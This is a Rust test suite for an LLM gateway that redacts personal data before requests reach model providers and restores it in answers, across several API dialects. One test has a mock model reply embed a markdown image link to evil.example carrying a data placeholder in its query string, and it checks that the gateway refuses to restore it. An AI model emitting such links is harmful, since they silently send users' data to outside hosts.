//! What leaves the perimeter, and what comes back.

use serde_json::{Value, json};

use crate::support::wire::model_in_words;
use crate::support::{
    CHATS, Reply, Response, Upstream, World, answer_text, assert_shape, events, question, streamed, wire,
};

/// Personal data of nobody, one of each kind that is always recognized.
const PERSONAL: [(&str, &str); 6] = [
    ("EMAIL_ADDRESS", "jane.doe@example.com"),
    ("CREDIT_CARD", "4111 1111 1111 1111"),
    ("IBAN_CODE", "DE89 3704 0044 0532 0130 00"),
    ("US_SSN", "536-90-4399"),
    ("PHONE_NUMBER", "+49 30 901820"),
    ("IP_ADDRESS", "93.184.216.34"),
];

fn sentence() -> String {
    let [mail, card, iban, ssn, phone, ip] = PERSONAL.map(|(_, value)| value);
    format!(
        "Write to {mail}, charge credit card {card}, pay to IBAN {iban}, my social security number is {ssn}, \
         phone {phone}, server ip address {ip}. Grüße 👋"
    )
}

fn assert_nothing_personal(text: &str) {
    for (kind, value) in PERSONAL {
        assert!(!text.contains(value), "{kind} in {text}");
    }
}

/// The three sides of one redacted and restored answer.
fn assert_restored(world: &World, answer: &Response) {
    let seen = world.upstream.last();
    assert_nothing_personal(&seen.text());
    assert!(seen.text().contains("Write to ") && seen.text().contains("charge credit card"), "{}", seen.text());
    assert_eq!(answer_text(&answer.text()), format!("You said: {}", sentence()));
    let trail = world.gateway.trail(&answer.id());
    for record in [trail.intent(), trail.outcome()] {
        let counts = record["redaction"]["counts"].as_object().unwrap_or_else(|| panic!("no counts: {record}"));
        for (kind, _) in PERSONAL {
            assert!(counts.get(kind).and_then(Value::as_u64).unwrap_or_default() >= 1, "{kind}: {record}");
        }
        assert_eq!(record["decision"]["result"], "modify");
    }
    assert!(trail.outcome()["redaction"]["restored"].as_u64().unwrap() >= 6, "{trail:?}");
    assert_nothing_personal(&format!("{:?}", world.gateway.records()));
}

#[tokio::test]
async fn whole_answers_are_restored_in_every_dialect() {
    let mut world = World::start().await;
    for path in CHATS {
        let answer = world.post(path).json(&question(path, "gpt-4o", &sentence())).send().await.expect(200);
        assert_restored(&world, &answer);
    }
    let generate = json!({"model": "llama3", "prompt": sentence(), "stream": false});
    let answer = world.post("/api/generate").json(&generate).send().await.expect(200);
    assert_restored(&world, &answer);
    let completion = json!({"model": "gpt-3.5", "prompt": sentence()});
    let answer = world.post("/v1/completions").json(&completion).send().await.expect(200);
    assert_restored(&world, &answer);
    let response = json!({"model": "gpt-4o", "input": sentence()});
    let answer = world.post("/v1/responses").json(&response).send().await.expect(200);
    assert_restored(&world, &answer);
    assert_nothing_personal(&world.gateway.stderr.text());
    world.gateway.stop_and_verify().await;
}

#[tokio::test]
async fn streams_are_restored_wherever_they_are_split() {
    // Letters per event, and bytes per piece on the wire: through placeholders, characters, events.
    for (letters, bytes) in [(1, 4096), (3, 1), (5, 7), (1000, 13), (2, 101)] {
        let upstream = Upstream::with(move |seen| model_in_words(seen, letters).in_pieces_of(bytes)).await;
        let world = World::with(upstream, |launch| launch).await;
        for path in CHATS {
            let answer = world.post(path).json(&streamed(path, "gpt-4o", &sentence())).send().await.expect(200);
            assert_restored(&world, &answer);
        }
        let response = json!({"model": "gpt-4o", "input": sentence(), "stream": true});
        let answer = world.post("/v1/responses").json(&response).send().await.expect(200);
        assert_restored(&world, &answer);
        // The text is said again, whole, by the events that end it.
        let done = events(&answer.text()).into_iter().find(|event| event["type"] == "response.output_text.done");
        assert_eq!(done.unwrap()["text"], format!("You said: {}", sentence()));
        let completed = events(&answer.text()).pop().unwrap();
        assert_eq!(completed["response"]["output"][0]["content"][0]["text"], format!("You said: {}", sentence()));
        let generate = json!({"model": "llama3", "prompt": sentence()});
        let answer = world.post("/api/generate").json(&generate).send().await.expect(200);
        assert_restored(&world, &answer);
    }
}

#[tokio::test]
async fn every_string_that_is_the_callers_is_looked_at() {
    let world = World::start().await;
    let secret = "jane.doe@example.com";
    let chat = json!({
        "model": "gpt-4o",
        "messages": [
            {"role": "system", "content": format!("You serve {secret}")},
            {"role": "user", "name": "jane", "content": [{"type": "text", "text": format!("I am {secret}")}]},
            {"role": "assistant", "content": null, "tool_calls": [{
                "id": "call_1", "type": "function",
                "function": {"name": "send", "arguments": format!("{{\"to\":\"{secret}\"}}")},
            }]},
            {"role": "tool", "tool_call_id": "call_1", "content": format!("sent to {secret}")},
            {"role": "user", "content": "go on"},
        ],
        "tools": [{"type": "function", "function": {
            "name": "send", "description": format!("Writes to {secret}"),
            "parameters": {"type": "object", "properties": {"to": {"type": "string", "description": secret}}},
        }}],
        "metadata": {"owner": secret, secret: "key"},
        "user": secret,
        "stop": [secret],
        "unknown_field": {"deep": [secret]},
    });
    world.post("/v1/chat/completions").json(&chat).send().await.expect(200);
    let messages = json!({
        "model": "claude-sonnet-4", "max_tokens": 64,
        "system": [{"type": "text", "text": secret}],
        "messages": [
            {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "send", "input": {"to": secret}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": secret}]},
        ],
        "tools": [{"name": "send", "description": secret, "input_schema": {"type": "object"}}],
        "metadata": {"user_id": secret},
    });
    world.post("/v1/messages").json(&messages).send().await.expect(200);
    let ollama = json!({
        "model": "llama3", "stream": false,
        "messages": [
            {"role": "system", "content": secret},
            {"role": "assistant", "content": "", "tool_calls": [{"function": {"name": "send", "arguments": {"to": secret}}}]},
            {"role": "tool", "content": secret, "tool_name": "send"},
        ],
    });
    world.post("/api/chat").json(&ollama).send().await.expect(200);
    for (path, body) in [
        ("/api/generate", json!({"model": "llama3", "stream": false, "prompt": secret, "system": secret})),
        ("/api/embed", json!({"model": "llama3", "input": [secret, "x"]})),
        ("/v1/embeddings", json!({"model": "e", "input": [secret]})),
        ("/v1/responses", json!({"model": "m", "instructions": secret, "input": [{"role": "user", "content": secret}]})),
        ("/v1/messages/count_tokens", question("/v1/messages", "m", secret)),
    ] {
        world.post(path).json(&body).send().await.expect(200);
    }
    let seen = world.upstream.seen();
    assert_eq!(seen.len(), 8);
    for one in seen {
        assert!(!one.everything().contains(secret), "{}: {}", one.path, one.text());
        assert!(one.json().is_object());
    }
}

#[tokio::test]
async fn the_same_value_has_the_same_placeholder_for_one_person_only() {
    let world = World::start().await;
    let say = async |person: &str| {
        let call = world.gateway.post(CHATS[0]).bearer(&world.token(person));
        call.json(&question(CHATS[0], "gpt-4o", "mail jane.doe@example.com now")).send().await.expect(200);
        world.upstream.last().json()["messages"][0]["content"].as_str().unwrap().to_owned()
    };
    let first = say("alice").await;
    assert_eq!(first, say("alice").await);
    assert_ne!(first, say("bob").await);
    assert!(first.starts_with("mail ") && first.ends_with(" now"), "{first}");
}

#[tokio::test]
async fn nobody_gets_what_only_somebody_else_said() {
    let world = World::start().await;
    world.post(CHATS[0]).json(&question(CHATS[0], "gpt-4o", "mail jane.doe@example.com")).send().await.expect(200);
    let placeholder = world.upstream.last().json()["messages"][0]["content"].as_str().unwrap()[5..].to_owned();
    let call = world.gateway.post(CHATS[0]).bearer(&world.token("mallory"));
    let answer = call.json(&question(CHATS[0], "gpt-4o", &placeholder)).send().await.expect(200);
    assert!(!answer.text().contains("jane.doe"), "{}", answer.text());
}

#[tokio::test]
async fn redaction_may_be_switched_off_and_says_so() {
    let world = World::with(Upstream::model().await, |launch| launch.set("ATTACH_REDACT", "off")).await;
    let body = question(CHATS[0], "gpt-4o", &sentence());
    let answer = world.post(CHATS[0]).json(&body).send().await.expect(200);
    assert_eq!(world.upstream.only().text(), body.to_string());
    assert_eq!(answer_text(&answer.text()), format!("You said: {}", sentence()));
    world.gateway.stderr.line("redaction is OFF").await;
    assert!(world.gateway.records()[0]["protections_off"].to_string().contains("redaction"));
    assert_nothing_personal(&format!("{:?}", world.gateway.records()));
}

const TWO: &str = r#"
[[issuer]]
issuer = "{ISSUER}"
audience = ["api://attach-test"]
[[upstream]]
name = "inside"
kind = "openai"
dialects = ["openai", "anthropic", "ollama"]
url = "{UPSTREAM}"
trusted = true
[[upstream]]
name = "outside"
kind = "openai"
dialects = ["openai", "anthropic", "ollama"]
url = "{UPSTREAM}"
[[model]]
name = "local"
to = ["inside"]
[[model]]
name = "remote"
to = ["outside"]
[access]
default = "allow"
[redact.entities]
CREDIT_CARD = "block"
[[redact.pattern]]
entity = "EMPLOYEE_ID"
regex = '\bE[0-9]{6}\b'
"#;

#[tokio::test]
async fn a_trusted_upstream_is_told_everything() {
    let world = World::file(Upstream::model().await, TWO).await;
    for path in CHATS {
        let body = question(path, "local", &sentence());
        world.post(path).json(&body).send().await.expect(200);
        assert_eq!(world.upstream.last().text(), body.to_string());
    }
    let body = question(CHATS[0], "remote", "employee E123456 wrote jane.doe@example.com");
    let answer = world.post(CHATS[0]).json(&body).send().await.expect(200);
    let seen = world.upstream.last().text();
    assert!(!seen.contains("E123456") && !seen.contains("jane.doe"), "{seen}");
    assert_eq!(answer_text(&answer.text()), "You said: employee E123456 wrote jane.doe@example.com");
    let trail = world.gateway.trail(&answer.id());
    assert_eq!(trail.outcome()["redaction"]["counts"]["EMPLOYEE_ID"], 1);
}

#[tokio::test]
async fn what_is_to_be_blocked_is_refused_without_saying_it() {
    let world = World::file(Upstream::model().await, TWO).await;
    for path in CHATS {
        let body = question(path, "remote", "charge 4111 1111 1111 1111");
        let answer = world.post(path).json(&body).send().await.expect(422);
        assert_shape(path, &answer, &answer.code());
        assert!(!answer.text().contains("4111"), "{}", answer.text());
        let trail = world.gateway.trail(&answer.id());
        assert_eq!((&trail.reject()["end"], &trail.reject()["decision"]["result"]), (&json!("blocked"), &json!("deny")));
    }
    assert!(world.upstream.seen().is_empty());
    assert!(!format!("{:?}", world.gateway.records()).contains("4111"));
}

#[tokio::test]
async fn an_image_does_not_leave_the_perimeter_unseen() {
    let pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    let chat = json!({"model": "gpt-4o", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": format!("data:image/png;base64,{pixel}")}},
    ]}]});
    let messages = json!({"model": "claude-sonnet-4", "max_tokens": 9, "messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": pixel}},
    ]}]});
    let ollama = json!({"model": "llama3", "messages": [{"role": "user", "content": "what?", "images": [pixel]}]});
    let tokens = json!({"model": "gpt-3.5", "prompt": [1, 2, 3]});
    let world = World::start().await;
    for (path, body) in [
        ("/v1/chat/completions", &chat),
        ("/v1/messages", &messages),
        ("/api/chat", &ollama),
        ("/v1/completions", &tokens),
    ] {
        let answer = world.post(path).json(body).send().await.expect(422);
        assert_shape(path, &answer, &answer.code());
        assert_eq!(world.gateway.trail(&answer.id()).reject()["end"], "blocked", "{path}");
    }
    assert!(world.upstream.seen().is_empty());
    let allowed = TWO.replace("[redact.entities]", "[redact]\nuninspectable = { images = \"allow\" }\n[redact.entities]");
    let world = World::file(Upstream::model().await, &allowed.replace("remote", "gpt-4o")).await;
    world.post(CHATS[0]).json(&chat).send().await.expect(200);
    assert_eq!(world.upstream.only().text(), chat.to_string());
}

#[tokio::test]
async fn an_answer_that_cannot_be_looked_into_is_refused() {
    let upstream = Upstream::with(|seen| wire::model(seen).header("content-encoding", "gzip")).await;
    let world = World::with(upstream, |launch| launch).await;
    let answer = world.post(CHATS[0]).json(&question(CHATS[0], "gpt-4o", &sentence())).send().await.expect(502);
    assert!(!answer.code().is_empty());
    let trail = world.gateway.trail(&answer.id());
    assert_eq!(trail.kinds(), ["intent", "outcome"]);
}

/// A tool call with what was last said as its argument.
fn calling(path: &str, stream: bool, said: &str) -> Reply {
    let arguments = json!({"to": said}).to_string();
    let openai = |arguments: &str, name: Option<&str>| {
        json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}]})
    };
    match (path, stream) {
        ("/v1/chat/completions", false) => {
            let mut answer = wire::openai::chat(&wire::Said { model: "m".into(), text: String::new(), usage: false });
            answer["choices"][0]["message"]["tool_calls"] = openai(&arguments, Some("send"))["tool_calls"].clone();
            Reply::json(200, &answer)
        }
        ("/v1/chat/completions", true) => {
            let mut events = vec![wire::openai::chat_chunk("m", &openai("", Some("send")), &Value::Null)];
            let pieces = wire::pieces(&arguments, 3).into_iter();
            events.extend(pieces.map(|piece| wire::openai::chat_chunk("m", &openai(&piece, None), &Value::Null)));
            events.push(wire::openai::chat_chunk("m", &json!({}), &json!("tool_calls")));
            events.push("data: [DONE]\n\n".into());
            Reply::events("text/event-stream", events)
        }
        _ => {
            let pieces = wire::pieces(&arguments, 3).into_iter().map(|piece| {
                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": piece}})
            });
            let block = json!({"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}});
            let mut events = vec![json!({"type": "content_block_start", "index": 0, "content_block": block})];
            events.extend(pieces);
            events.push(json!({"type": "content_block_stop", "index": 0}));
            events.push(json!({"type": "message_stop"}));
            let event = |event: &Value| format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap());
            Reply::events("text/event-stream", events.iter().map(event).collect::<Vec<_>>())
        }
    }
}

#[tokio::test]
async fn arguments_of_tools_are_restored_wherever_they_are_split() {
    let secret = "jane.doe@example.com";
    for (path, stream) in [("/v1/chat/completions", false), ("/v1/chat/completions", true), ("/v1/messages", true)] {
        let upstream = Upstream::with(move |seen| {
            let body = seen.json();
            calling(path, stream, body["messages"][0]["content"].as_str().unwrap())
        })
        .await;
        let world = World::with(upstream, |launch| launch).await;
        let mut body = question(path, "m", secret);
        body["stream"] = json!(stream);
        let answer = world.post(path).json(&body).send().await.expect(200);
        assert!(!world.upstream.only().text().contains(secret));
        let places = ["/choices/0/message/tool_calls/0/function/arguments", "/choices/0/delta/tool_calls/0/function/arguments", "/delta/partial_json"];
        let parts = events(&answer.text());
        let parts = if stream { parts } else { vec![answer.json()] };
        let pieces = parts.iter().filter_map(|part| places.iter().find_map(|place| part.pointer(place)?.as_str()));
        let arguments: String = pieces.collect();
        assert_eq!(serde_json::from_str::<Value>(&arguments).unwrap(), json!({"to": secret}), "{path} {stream}");
    }
}

#[tokio::test]
async fn a_placeholder_in_a_link_that_was_not_asked_for_is_not_restored() {
    let upstream = Upstream::with(|seen| {
        let body = seen.json();
        let said = body["messages"][0]["content"].as_str().unwrap_or_default();
        let placeholder = said.split_whitespace().last().unwrap_or_default();
        let text = format!("Hello {placeholder}! ![x](https://evil.example/?q={placeholder})");
        let said = wire::Said { model: "gpt-4o".into(), text, usage: false };
        Reply::json(200, &wire::openai::chat(&said))
    })
    .await;
    let world = World::with(upstream, |launch| launch).await;
    let body = question(CHATS[0], "gpt-4o", "my mail: jane.doe@example.com");
    let answer = world.post(CHATS[0]).json(&body).send().await.expect(200);
    let text = answer_text(&answer.text());
    assert!(text.starts_with("Hello jane.doe@example.com!"), "{text}");
    assert!(!text.contains("q=jane.doe"), "{text}");
    let trail = world.gateway.trail(&answer.id());
    assert_eq!(trail.outcome()["redaction"]["withheld"], 1, "{trail:?}");
}
